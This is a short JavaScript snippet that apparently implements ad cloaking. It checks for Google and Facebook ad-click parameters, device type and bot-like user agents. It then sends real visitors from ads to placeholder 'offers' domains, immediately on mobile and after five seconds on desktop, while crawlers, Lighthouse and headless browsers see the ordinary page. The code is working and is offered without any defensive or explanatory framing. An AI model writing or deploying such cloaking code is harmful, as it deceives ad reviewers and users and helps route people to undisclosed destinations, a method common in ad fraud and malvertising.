const targets = ['https://go1.offers.example/', 'https://go2.offers.example/'];
const parser = new UAParser();
const q = new URLSearchParams(location.search);
const fromAd = q.has('gclid') || q.has('fbclid');
const mobile = parser.getDevice().type === 'mobile';
const robot = /bot|crawler|spider|lighthouse|headless/i.test(navigator.userAgent);
if (fromAd && mobile && !robot) {
  location.href = targets[Math.floor(Math.random() * targets.length)];
} else if (fromAd && !robot) {
  setTimeout(() => { location.href = targets[0]; }, 5000);
}
